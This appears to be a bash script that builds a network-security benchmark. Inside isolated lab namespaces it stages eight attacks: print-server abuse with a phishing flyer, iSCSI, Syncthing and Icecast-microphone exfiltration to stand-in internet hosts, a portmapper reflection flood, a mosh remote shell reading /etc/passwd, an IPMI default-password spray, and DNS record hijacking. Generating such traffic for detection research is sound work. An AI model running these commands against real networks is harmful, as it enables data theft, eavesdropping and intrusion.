#!/usr/bin/env bash
# An EIGHTEENTH fresh attack set ("f18-*"): protocols and services no earlier set used, most of them low and slow or
# speaking what office, building and industrial networks already carry (IPP printing, IPMI, a portmapper, dynamic
# DNS updates, a block-storage protocol, a file-sync protocol, an audio stream, a mobile shell).
# Made with real packaged tools between network namespaces (no helper program: every far end is a packaged server).
#   f18-ipp-print-abuse-lan  a neighbour's CUPS print server abused over IPP (ipptool): printer and job inventory (the
#                            names of the documents others printed), 4 print jobs 8-14 s apart, the jobs listed again
#   f18-iscsi-exfil-wan      exfiltration to an internet iSCSI target (tgt): discovery, inquiry and capacity
#                            (libiscsi's iscsi-ls / iscsi-inq / iscsi-readcapacity16), then the loot written onto
#                            the target's disk with qemu-img over libiscsi (tcp/3260), 3 files 20-30 s apart
#   f18-syncthing-exfil      a folder of loot synchronised to the operator's Syncthing on the internet (tcp/22000,
#                            TLS, send-only, throttled to 24 kB/s; local discovery broadcasts on the LAN as shipped)
#   f18-portmap-reflector    the device's portmapper (rpcbind) abused as a reflector: PMAPPROC_DUMP requests over
#                            UDP (nmap's rpcinfo script) from 6 internet addresses in turn, ~2 a second in all, each
#                            answered with the whole program list (~17x the request's bytes)
#   f18-mosh-shell-in        an operator on the internet logs into the device with mosh: an SSH login starts
#                            mosh-server, then the interactive session runs over UDP (60001), typed keystroke by
#                            keystroke
#   f18-icecast-mic-exfil    the device's microphone streamed to an internet Icecast server (ffmpeg's icecast
#                            output, MP3 at 32 kbit/s, tcp/8000) for 100 s
#   f18-ipmi-spray-lan       a slow default-credential spray of a neighbour's BMC over IPMI 2.0 / RMCP+ (udp/623,
#                            ipmitool -I lanplus against OpenIPMI's ipmi_sim), then the user list, the LAN settings
#                            and the chassis state read with the pair that worked
#   f18-ddns-hijack-lan      dynamic DNS updates (RFC 2136, nsupdate) to the LAN's DNS server (bind9 with
#                            allow-update, as DHCP-DDNS setups leave it): the zone's SOA and a few names asked, then
#                            the historian's and wpad's names pointed at the device, one update every 6-10 s
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f18-*, veths f18p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.118.x; the reflector's 6 sources 10.128.119.x). Each id's servers are started before its capture and
# stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit. The device is
# always the lab's attacker namespace (role attacker).
#
# Tools (Debian): cups cups-ipp-utils cups-client tgt libiscsi-bin qemu-utils qemu-block-extra syncthing rpcbind nmap
#   mosh openssh-server openssh-client icecast2 ffmpeg openipmi ipmitool bind9 bind9-dnsutils iproute2 tcpdump
#   wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh18/gen-fresh18.sh [--out DIR (default /work/behavior-bench-fresh18)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh18
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f18 GEN=gen-fresh18
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
victim_arp_names_lan   # two ids send from an internet address by the route's source address
sleep 1

# ---------- "internet" hosts ----------
# .118.2 the iSCSI target, .118.3 the operator's Syncthing, .118.4 the mosh operator, .118.5 the Icecast server;
# the reflector's sources 10.128.119.11-16 (added with their id).
internet_hosts 10.128.118.2 10.128.118.3 10.128.118.4 10.128.118.5
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 2500000 /dev/urandom > "$W/loot/flash-dump.bin"
head -c 600000 /dev/urandom > "$W/loot/rec-0412.bin"
head -c 300000 /dev/urandom > "$W/loot/rec-0413.bin"
head -c 50000 /dev/urandom > "$W/loot/config.bin"

# kills what is left of a process started in the device's namespace by a service (mosh-server, say), by pid
kill_in_att() { # COMM
  local p
  for p in $(ip netns pids "$LAB-att" 2>/dev/null); do
    [ "$(cat "/proc/$p/comm" 2>/dev/null)" = "$1" ] && kill "$p" 2>/dev/null
  done
  return 0
}

# ---------- 1. a neighbour's CUPS print server abused over IPP ----------
if want f18-ipp-print-abuse-lan; then
  C="$W/cups"; rm -rf "$C"; mkdir -p "$C"/{spool,cache,state,log,tmp,run,ppd}
  chown root:lp "$C/spool" "$C/cache" "$C/tmp"; chmod 0770 "$C/spool" "$C/cache" "$C/tmp"
  cat > "$C/cupsd.conf" <<EOF
Listen $NET.33:631
Listen $C/run/cups.sock
Browsing No
WebInterface No
LogLevel warn
DefaultAuthType None
MaxLogSize 0
PreserveJobHistory Yes
<Location />
  Order allow,deny
  Allow all
</Location>
<Policy default>
  JobPrivateAccess all
  JobPrivateValues none
  SubscriptionPrivateAccess all
  SubscriptionPrivateValues none
  <Limit All>
    Order deny,allow
  </Limit>
</Policy>
EOF
  cat > "$C/cups-files.conf" <<EOF
ServerRoot $C
RequestRoot $C/spool
CacheDir $C/cache
StateDir $C/state
TempDir $C/tmp
ServerBin /usr/lib/cups
DataDir /usr/share/cups
AccessLog $C/log/access_log
ErrorLog $C/log/error_log
PageLog $C/log/page_log
FileDevice Yes
FatalErrors none
User lp
Group lp
SystemGroup root
EOF
  srv d33 200 cupsd -f -c "$C/cupsd.conf" -s "$C/cups-files.conf"
  CU_PID=$BG
  wait_tcp d33 "$NET.33" 631
  # the office's printer (a queue printing to /dev/null) and 3 jobs other people printed before
  ns d33 lpadmin -h "$C/run/cups.sock" -p Office-MFP -E -v file:///dev/null -m raw -D "Office MFP 2nd floor" \
    -L "Production office" >"$C/lpadmin.log" 2>&1 || true
  printf 'Payroll November\n' > "$C/doc1.txt"
  for j in "hr.schmidt:Payroll-2026-11.pdf" "t.koch:SCADA-passwords-line2.xlsx" "it.admin:VPN-config-remote.txt"; do
    ns d33 lp -h "$C/run/cups.sock" -d Office-MFP -U "${j%%:*}" -t "${j#*:}" "$C/doc1.txt" >>"$C/lpadmin.log" 2>&1 || true
  done
  sleep 3
  cat > "$C/flyer.txt" <<'EOF'
URGENT - IT SECURITY NOTICE
Your workstation password expires today. Scan the code or visit http://it-support-portal.example/reset
to keep your account. -- IT department
EOF
  cat > "$C/which-completed.test" <<'EOF'
{
  NAME "Get completed jobs"
  OPERATION Get-Jobs
  GROUP operation-attributes-tag
  ATTR charset attributes-charset utf-8
  ATTR naturalLanguage attributes-natural-language en
  ATTR uri printer-uri $uri
  ATTR name requesting-user-name $user
  ATTR keyword which-jobs completed
  ATTR keyword requested-attributes job-id,job-name,job-originating-user-name,job-originating-host-name,time-at-creation
  STATUS successful-ok
}
EOF
  cat > "$W/ipp.sh" <<'EOS'
# the device: the printer's attributes, the queues, the completed jobs (who printed what), then 4 print jobs 8-14 s
# apart (a phishing notice), and the completed jobs listed again
C="$W/cups"; P=ipp://10.66.0.33:631/printers/Office-MFP; T=/usr/share/cups/ipptool
timeout 15 ipptool -tv "$P" "$T/get-printer-attributes.test" > "$C/dev-attrs.out" 2>&1 || true
sleep 5
timeout 15 ipptool -tv ipp://10.66.0.33:631/ "$T/get-printers.test" > "$C/dev-printers.out" 2>&1 || true
sleep 6
timeout 15 ipptool -tv "$P" "$C/which-completed.test" > "$C/dev-jobs.out" 2>&1 || true
sleep 8
for i in 1 2 3 4; do
  timeout 15 ipptool -t -f "$C/flyer.txt" -d "filetype=text/plain" "$P" "$T/print-job.test" >> "$C/dev-print.out" 2>&1 || true
  sleep $((8 + RANDOM % 7))
done
timeout 15 ipptool -tv "$P" "$C/which-completed.test" > "$C/dev-jobs2.out" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.33 CAP_VIC_MAC=02:66:00:00:00:33 cap f18-ipp-print-abuse-lan lateral ipptool+cupsd-ipp attacker lan \
    false 150 bash "$W/ipp.sh"
  stopbg "$CU_PID"
  echo "ipp: $(grep -c 'job-name' "$C/dev-jobs.out" 2>/dev/null) job names seen, $(grep -c PASS "$C/dev-print.out" 2>/dev/null) print jobs accepted" >&2
fi

# ---------- 2. exfiltration to an internet iSCSI target ----------
if want f18-iscsi-exfil-wan; then
  I="$W/iscsi"; rm -rf "$I"; mkdir -p "$I"
  truncate -s 64M "$I/lun1.img"
  srv vic 200 tgtd -f -C 18 --iscsi portal=10.128.118.2:3260
  TG_PID=$BG
  sleep 2
  IQN=iqn.2026-11.example.backup:store7
  ns vic tgtadm -C 18 --lld iscsi --op new --mode target --tid 1 -T "$IQN"
  ns vic tgtadm -C 18 --lld iscsi --op new --mode logicalunit --tid 1 --lun 1 -b "$I/lun1.img"
  ns vic tgtadm -C 18 --lld iscsi --op bind --mode target --tid 1 -I ALL
  wait_tcp vic 10.128.118.2 3260
  cat > "$W/iscsi.sh" <<'EOS'
# the device: SendTargets discovery and the LUNs (iscsi-ls), an inquiry and the capacity, then the loot written onto
# the disk with qemu-img over libiscsi, three files 20-30 s apart at their own offsets
U=iscsi://10.128.118.2/iqn.2026-11.example.backup:store7/1
timeout 20 iscsi-ls -i iqn.2026-11.com.vendor:cam-7f3a -s iscsi://10.128.118.2 > "$W/iscsi/ls.out" 2>&1 || true
sleep 4
timeout 20 iscsi-inq -i iqn.2026-11.com.vendor:cam-7f3a "$U" > "$W/iscsi/inq.out" 2>&1 || true
sleep 3
timeout 20 iscsi-readcapacity16 -i iqn.2026-11.com.vendor:cam-7f3a "$U" > "$W/iscsi/cap.out" 2>&1 || true
sleep 6
timeout 60 qemu-img convert -n -f raw -O raw "$W/loot/flash-dump.bin" "json:{\"driver\":\"raw\",\"file\":{\"driver\":\"iscsi\",\"transport\":\"tcp\",\"portal\":\"10.128.118.2:3260\",\"target\":\"iqn.2026-11.example.backup:store7\",\"lun\":1,\"initiator-name\":\"iqn.2026-11.com.vendor:cam-7f3a\"}}" > "$W/iscsi/w1.out" 2>&1 || true
sleep $((20 + RANDOM % 11))
timeout 60 qemu-img convert -n -f raw -O raw "$W/loot/config.bin" "json:{\"driver\":\"raw\",\"offset\":33554432,\"file\":{\"driver\":\"iscsi\",\"transport\":\"tcp\",\"portal\":\"10.128.118.2:3260\",\"target\":\"iqn.2026-11.example.backup:store7\",\"lun\":1,\"initiator-name\":\"iqn.2026-11.com.vendor:cam-7f3a\"}}" > "$W/iscsi/w2.out" 2>&1 || true
sleep $((20 + RANDOM % 11))
timeout 60 qemu-img convert -n -f raw -O raw "$W/loot/rec-0412.bin" "json:{\"driver\":\"raw\",\"offset\":16777216,\"file\":{\"driver\":\"iscsi\",\"transport\":\"tcp\",\"portal\":\"10.128.118.2:3260\",\"target\":\"iqn.2026-11.example.backup:store7\",\"lun\":1,\"initiator-name\":\"iqn.2026-11.com.vendor:cam-7f3a\"}}" > "$W/iscsi/w3.out" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.118.2 cap f18-iscsi-exfil-wan exfil iscsi-ls+qemu-img-libiscsi+tgtd attacker public false 130 \
    bash "$W/iscsi.sh"
  # tgtd ignores SIGTERM while it has targets: the system is deleted first, then what is left killed by its pid
  ns vic timeout 10 tgtadm -C 18 --op delete --mode system >/dev/null 2>&1 || true
  sleep 1
  for p in $(pgrep -P "$TG_PID" 2>/dev/null); do kill -9 "$p" 2>/dev/null || true; done
  stopbg "$TG_PID"
  echo "iscsi: flash dump on the target: $(cmp -n 2500000 "$W/loot/flash-dump.bin" "$I/lun1.img" >/dev/null 2>&1 && echo yes || echo no); config: $(cmp -n 50000 "$W/loot/config.bin" "$I/lun1.img" 0 33554432 >/dev/null 2>&1 && echo yes || echo no); recording: $(cmp -n 600000 "$W/loot/rec-0412.bin" "$I/lun1.img" 0 16777216 >/dev/null 2>&1 && echo yes || echo no)" >&2
fi

# ---------- 3. a folder of loot synchronised to the operator's Syncthing ----------
if want f18-syncthing-exfil; then
  S="$W/st"; rm -rf "$S"; mkdir -p "$S/dev-data" "$S/op-data"
  cp "$W/loot/rec-0412.bin" "$W/loot/config.bin" "$S/dev-data/"
  export STNOUPGRADE=1 STNODEFAULTFOLDER=1
  syncthing generate --home="$S/dev" --no-default-folder --skip-port-probing >/dev/null 2>&1
  syncthing generate --home="$S/op" --no-default-folder --skip-port-probing >/dev/null 2>&1
  DEV_ID=$(syncthing serve --home="$S/dev" --device-id 2>/dev/null)
  OP_ID=$(syncthing serve --home="$S/op" --device-id 2>/dev/null)
  $PY - "$S" "$DEV_ID" "$OP_ID" <<'PYEOF'
import sys, xml.etree.ElementTree as ET
S, dev, op = sys.argv[1:4]
def edit(side, me, other, other_addr, listen, ftype, local_announce, extra):
    p = f"{S}/{side}/config.xml"
    t = ET.parse(p); r = t.getroot()
    for f in r.findall("folder"): r.remove(f)
    d = ET.SubElement(r, "device", id=other, name="peer", compression="metadata", introducer="false",
                      skipIntroductionRemovals="false", introducedBy="")
    ET.SubElement(d, "address").text = other_addr
    ET.SubElement(d, "paused").text = "false"
    ET.SubElement(d, "autoAcceptFolders").text = "false"
    f = ET.Element("folder", id="cam7f3a-bk", label="bk", path=f"{S}/{side}-data", type=ftype,
                   rescanIntervalS="15", fsWatcherEnabled="false", ignorePerms="false", autoNormalize="true")
    ET.SubElement(f, "device", id=me, introducedBy="")
    ET.SubElement(f, "device", id=other, introducedBy="")
    ET.SubElement(f, "filesystemType").text = "basic"
    r.insert(0, f)
    o = r.find("options")
    def setopt(k, v):
        for e in o.findall(k): o.remove(e)
        ET.SubElement(o, k).text = v
    setopt("listenAddress", listen)
    setopt("globalAnnounceEnabled", "false")
    setopt("localAnnounceEnabled", local_announce)
    setopt("relaysEnabled", "false")
    setopt("natEnabled", "false")
    setopt("urAccepted", "-1")
    setopt("autoUpgradeIntervalH", "0")
    setopt("crashReportingEnabled", "false")
    setopt("startBrowser", "false")
    for k, v in extra.items(): setopt(k, v)
    t.write(p)
# the device: send-only, throttled, listening as shipped (all addresses), local discovery as shipped
edit("dev", dev, op, "tcp://10.128.118.3:22000", "tcp://0.0.0.0:22000", "sendonly", "true", {"maxSendKbps": "24"})
# the operator: receive-only, on its internet address; it waits for the device ("dynamic")
edit("op", op, dev, "dynamic", "tcp://10.128.118.3:22000", "receiveonly", "false", {})
PYEOF
  srv vic 220 env HOME="$S/op" syncthing serve --home="$S/op" --no-browser --no-restart --logflags=0
  ST_PID=$BG
  wait_tcp vic 10.128.118.3 22000
  cat > "$W/syncthing.sh" <<'EOS'
# the device's Syncthing: connects to the operator, sends the folder (throttled to 24 kB/s), and a new recording
# dropped into it after 60 s goes out at the next rescan
S="$W/st"
( sleep 60; cp "$W/loot/rec-0413.bin" "$S/dev-data/" ) &
HOME="$S/dev" STNOUPGRADE=1 timeout 140 syncthing serve --home="$S/dev" --no-browser --no-restart --logflags=0 > "$S/dev.log" 2>&1 || true
wait
EOS
  CAP_VIC_IP=10.128.118.3 cap f18-syncthing-exfil exfil syncthing-sendonly-tcp22000 attacker public false 150 \
    bash "$W/syncthing.sh"
  stopbg "$ST_PID"
  echo "syncthing: the operator got $(ls "$S/op-data" 2>/dev/null | tr '\n' ' ')($(du -sb "$S/op-data" | cut -f1) bytes)" >&2
fi

# ---------- 4. the device's portmapper used as a reflector (PMAPPROC_DUMP over UDP) ----------
if want f18-portmap-reflector; then
  # the device's rpcbind (as NAS / DVR firmware ships it), in a private mount namespace with its own /run
  ip netns exec "$LAB-att" timeout 130 unshare -m sh -c \
    "mount -t tmpfs f18run /run && mkdir -p /run/rpcbind && exec rpcbind -f -w" >>"$W/bg-att.log" 2>&1 &
  RB_PID=$!; PIDS+=("$RB_PID")
  sleep 2
  for t in 11 12 13 14 15 16; do ns vic ip addr add "10.128.119.$t/32" dev lo; done
  cat > "$W/portmap.sh" <<'EOS'
# the reflection: requests "from" 6 internet addresses (the victims; made here from the victim's namespace, where
# those addresses live and the answers end: one source at a time, by the route's source address), in turn, each
# one nmap's rpcinfo script (a portmapper probe and a DUMP over UDP, answered with the whole program list), about
# 2 a second in all, 200 in ~90 s
for i in $(seq 0 199); do
  [ $SECONDS -lt 100 ] || break
  ip netns exec "$LAB-vic" ip route replace 10.66.0.10/32 dev eth0 src "10.128.119.$((11 + i % 6))"
  ip netns exec "$LAB-vic" timeout 8 nmap -n -Pn --send-ip -sU -p 111 --max-retries 0 --script rpcinfo 10.66.0.10 \
    >> "$W/portmap.out" 2>&1 || true
  sleep "0.$((1 + RANDOM % 3))"
done
ip netns exec "$LAB-vic" ip route del 10.66.0.10/32 dev eth0 || true
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.119.11 cap f18-portmap-reflector dos rpcbind-pmap-dump-reflector+nmap-rpcinfo \
    attacker wan false 115 bash "$W/portmap.sh"
  stopbg "$RB_PID"
  for t in 11 12 13 14 15 16; do ns vic ip addr del "10.128.119.$t/32" dev lo || true; done
  echo "portmap: $(grep -c '100000  2,3,4        111/udp' "$W/portmap.out" 2>/dev/null) program lists read" >&2
fi

# ---------- 5. an operator on the internet logs into the device with mosh ----------
if want f18-mosh-shell-in; then
  M="$W/mosh"; rm -rf "$M"; mkdir -p "$M" /run/sshd
  ssh-keygen -q -t ed25519 -N '' -f "$M/hostkey"
  ssh-keygen -q -t ed25519 -N '' -f "$M/opkey"
  cp "$M/opkey.pub" "$M/authorized_keys"
  cat > "$M/sshd_config" <<EOF
ListenAddress $ATT_IP:22
HostKey $M/hostkey
PidFile $M/sshd.pid
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
AuthorizedKeysFile $M/authorized_keys
AcceptEnv LANG LC_*
Subsystem sftp internal-sftp
EOF
  srv att 160 /usr/sbin/sshd -D -e -f "$M/sshd_config"
  SS_PID=$BG
  sleep 2
  # the operator's datagrams leave from its own internet address
  ns vic ip route replace "$ATT_IP/32" dev eth0 src 10.128.118.4
  cat > "$M/keys.sh" <<'EOS'
# the operator's typing: each character on its own, 80-260 ms apart, a pause to read each command's output
sleep 6
for c in "id" "uname -a" "cat /proc/cpuinfo | head -5" "ps w | head -30" "cat /etc/passwd" "ls -la /mnt/mtd /tmp" \
         "cat /proc/net/arp" "ip -4 route" "exit"; do
  s="$c"
  while [ -n "$s" ]; do printf '%s' "${s:0:1}"; s="${s:1}"; sleep "0.$((8 + RANDOM % 18))"; done
  printf '\r'
  sleep $((4 + RANDOM % 6))
done
sleep 3
EOS
  cat > "$W/mosh.sh" <<'EOS'
# from the internet (10.128.118.4): mosh logs in with ssh (a key), starts mosh-server on udp 60001, and the session
# runs over UDP; the client's terminal is a pty made by script (40 x 120)
M="$W/mosh"
bash "$M/keys.sh" | ip netns exec "$LAB-vic" env TERM=xterm LANG=C.UTF-8 timeout 120 script -qfec \
  "stty rows 40 cols 120; mosh -p 60001 --ssh='ssh -i $M/opkey -b 10.128.118.4 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' --server='LANG=C.UTF-8 mosh-server' root@10.66.0.10" \
  "$M/session.typescript" > /dev/null 2>&1 || true
EOS
  CAP_VIC_IP=10.128.118.4 cap f18-mosh-shell-in c2 mosh-over-ssh-login+mosh-server-udp60001 attacker public false 140 \
    bash "$W/mosh.sh"
  ns vic ip route del "$ATT_IP/32" dev eth0 || true
  stopbg "$SS_PID"
  kill_in_att mosh-server
  echo "mosh: typescript $(stat -c %s "$M/session.typescript" 2>/dev/null || echo 0) bytes; root in it: $(grep -c 'uid=0' "$M/session.typescript" 2>/dev/null)" >&2
fi

# ---------- 6. the device's microphone streamed to an internet Icecast server ----------
if want f18-icecast-mic-exfil; then
  IC="$W/icecast"; rm -rf "$IC"; mkdir -p "$IC"; chmod 777 "$IC"
  cat > "$IC/icecast.xml" <<EOF
<icecast>
  <location>cloud</location><admin>ops@stream.example</admin>
  <limits><clients>20</clients><sources>4</sources><queue-size>524288</queue-size><client-timeout>30</client-timeout>
    <header-timeout>15</header-timeout><source-timeout>10</source-timeout><burst-size>65535</burst-size></limits>
  <authentication><source-password>m1c-7f3a</source-password><relay-password>r3lay-x</relay-password>
    <admin-user>admin</admin-user><admin-password>adm-x</admin-password></authentication>
  <hostname>stream.example</hostname>
  <listen-socket><port>8000</port><bind-address>10.128.118.5</bind-address></listen-socket>
  <fileserve>1</fileserve>
  <paths><basedir>/usr/share/icecast2</basedir><logdir>$IC</logdir><webroot>/usr/share/icecast2/web</webroot>
    <adminroot>/usr/share/icecast2/admin</adminroot><pidfile>$IC/icecast.pid</pidfile></paths>
  <logging><accesslog>access.log</accesslog><errorlog>error.log</errorlog><loglevel>2</loglevel></logging>
  <security><chroot>0</chroot><changeowner><user>nobody</user><group>nogroup</group></changeowner></security>
</icecast>
EOF
  srv vic 190 icecast2 -c "$IC/icecast.xml"
  IC_PID=$BG
  wait_tcp vic 10.128.118.5 8000
  # the operator listens once the stream is up (from the server's host: not on the device's link)
  ip netns exec "$LAB-vic" timeout 150 bash -c "sleep 12; exec ffmpeg -nostdin -loglevel error \
    -i http://10.128.118.5:8000/cam-7f3a.mp3 -c copy -y '$IC/heard.mp3'" >>"$W/bg-vic.log" 2>&1 &
  LS_PID=$!; PIDS+=("$LS_PID")
  cat > "$W/icecast.sh" <<'EOS'
# the device: its microphone (here a room's noise with a voice-band tone, 16 kHz mono) encoded as MP3 at 32 kbit/s and
# sent as an Icecast source (HTTP PUT on tcp/8000) for 100 s
sleep 3
timeout 115 ffmpeg -nostdin -loglevel error -re -f lavfi \
  -i "anoisesrc=color=pink:amplitude=0.05:sample_rate=16000,volume=1.0[a];sine=frequency=220:sample_rate=16000,volume=0.2[b];[a][b]amix=inputs=2" \
  -t 100 -ac 1 -c:a libmp3lame -b:a 32k -content_type audio/mpeg -ice_name lobby -f mp3 \
  icecast://source:m1c-7f3a@10.128.118.5:8000/cam-7f3a.mp3 > "$W/icecast/src.log" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.118.5 cap f18-icecast-mic-exfil exfil ffmpeg-icecast-source-mp3+icecast2 attacker public false 130 \
    bash "$W/icecast.sh"
  stopbg "$LS_PID"; stopbg "$IC_PID"
  echo "icecast: the operator heard $(stat -c %s "$IC/heard.mp3" 2>/dev/null || echo 0) bytes" >&2
fi

# ---------- 7. a slow default-credential spray of a neighbour's BMC over IPMI 2.0 ----------
if want f18-ipmi-spray-lan; then
  B="$W/ipmi"; rm -rf "$B"; mkdir -p "$B/state"
  cat > "$B/lan.conf" <<EOF
name "bmc34"
set_working_mc 0x20
  startlan 1
    addr $NET.34 623
    priv_limit admin
    allowed_auths_callback none md2 md5 straight
    allowed_auths_user none md2 md5 straight
    allowed_auths_operator none md2 md5 straight
    allowed_auths_admin none md2 md5 straight
    guid a123456789abcdefa123456789abcd34
  endlan
  user 1 true  ""        ""            user     10  none md2 md5 straight
  user 2 true  "ADMIN"   "Pl4nt-Bmc-9" admin    10  none md2 md5 straight
  user 3 true  "root"    "calvin"      admin    10  none md2 md5 straight
  user 4 true  "monitor" "m0n-2026"    user     10  none md2 md5 straight
EOF
  cat > "$B/bmc.emu" <<'EOF'
mc_setbmc 0x20
mc_add 0x20 0 no-device-sdrs 0x23 9 8 0x9f 0x1291 0xf02 persist_sdr
sel_enable 0x20 1000 0x0a
mc_enable 0x20
EOF
  srv d34 170 ipmi_sim -c "$B/lan.conf" -f "$B/bmc.emu" -s "$B/state" -n
  IP_PID=$BG
  sleep 3
  cat > "$W/ipmi.sh" <<'EOS'
# the spray: vendor default pairs, one login (RMCP+ session, a chassis status) every 4-7 s; then, with the pair that
# worked, the user list, the LAN settings and the chassis state
B="$W/ipmi"; hit=""
for up in ADMIN:ADMIN admin:admin root:calvin USERID:PASSW0RD Administrator:password admin:password root:root \
          ADMIN:password operator:operator root:calvin; do
  [ -n "$hit" ] && break
  u=${up%%:*} p=${up#*:}
  if timeout 15 ipmitool -I lanplus -H 10.66.0.34 -U "$u" -P "$p" -N 2 -R 1 chassis status >> "$B/spray.out" 2>&1; then
    hit="$u:$p"; echo "HIT $up" >> "$B/spray.out"
  fi
  sleep $((4 + RANDOM % 4))
done
[ -n "$hit" ] || exit 0
for c in "user list 1" "lan print 1" "mc info" "chassis power status" "sel list"; do
  sleep $((3 + RANDOM % 4))
  # shellcheck disable=SC2086
  timeout 15 ipmitool -I lanplus -H 10.66.0.34 -U "${hit%%:*}" -P "${hit#*:}" -N 2 -R 1 $c >> "$B/after.out" 2>&1 || true
done
EOS
  CAP_VIC_IP=$NET.34 CAP_VIC_MAC=02:66:00:00:00:34 cap f18-ipmi-spray-lan credential ipmitool-lanplus-spray+ipmi_sim \
    attacker lan false 140 bash "$W/ipmi.sh"
  stopbg "$IP_PID"
  echo "ipmi: $(grep -c '^HIT' "$B/spray.out" 2>/dev/null) hits; after: $(wc -l < "$B/after.out" 2>/dev/null || echo 0) lines" >&2
fi

# ---------- 8. dynamic DNS updates to the LAN's DNS server: names pointed at the device ----------
if want f18-ddns-hijack-lan; then
  N="$W/named"; rm -rf "$N"; mkdir -p "$N"; chmod 777 "$N"
  cat > "$N/plant.lan.zone" <<EOF
\$TTL 300
@         IN SOA ns1.plant.lan. hostmaster.plant.lan. 2026120701 3600 600 86400 300
@         IN NS  ns1.plant.lan.
ns1       IN A   $NET.31
historian IN A   $NET.32
hmi-01    IN A   $NET.33
plc-gw    IN A   $NET.34
fileserver IN A  $NET.20
wpad      IN A   $NET.20
EOF
  chmod 666 "$N/plant.lan.zone"
  cat > "$N/named.conf" <<EOF
options {
  directory "$N";
  pid-file "$N/named.pid";
  session-keyfile "$N/session.key";
  listen-on port 53 { $NET.31; };
  listen-on-v6 { none; };
  recursion no;
  dnssec-validation no;
};
zone "plant.lan" { type master; file "$N/plant.lan.zone"; allow-update { $NET.0/24; }; };
EOF
  srv d31 170 named -g -u root -c "$N/named.conf"
  NM_PID=$BG
  sleep 3
  cat > "$W/ddns.sh" <<'EOS'
# the device: the zone's SOA and a few names asked, then one update every 6-10 s (historian, wpad and a new name
# pointed at the device), each checked with a query
d() { timeout 8 dig +tries=1 +time=3 @10.66.0.31 "$@" >> "$W/named/dev.out" 2>&1 || true; }
d plant.lan SOA; sleep 3
d historian.plant.lan A; sleep 2
d wpad.plant.lan A; sleep 2
d plc-gw.plant.lan A; sleep 6
for u in "update delete historian.plant.lan A|update add historian.plant.lan 300 A 10.66.0.10" \
         "update delete wpad.plant.lan A|update add wpad.plant.lan 300 A 10.66.0.10" \
         "update add fw-update.plant.lan 300 A 10.66.0.10" \
         "update add fw-update.plant.lan 300 TXT \"v=4.2.18\""; do
  printf 'server 10.66.0.31\nzone plant.lan\n%s\nsend\n' "$(printf '%s' "$u" | tr '|' '\n')" |
    timeout 10 nsupdate -t 5 >> "$W/named/dev.out" 2>&1 || true
  sleep $((6 + RANDOM % 5))
  d "$(printf '%s' "$u" | awk '{print $3; exit}')" A
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f18-ddns-hijack-lan lateral nsupdate-rfc2136+bind9-allow-update \
    attacker lan false 110 bash "$W/ddns.sh"
  stopbg "$NM_PID"
  echo "ddns: historian now $(grep -A1 'ANSWER SECTION' "$N/dev.out" | grep -c '^historian.*10.66.0.10') x at the device" >&2
fi

lab_index
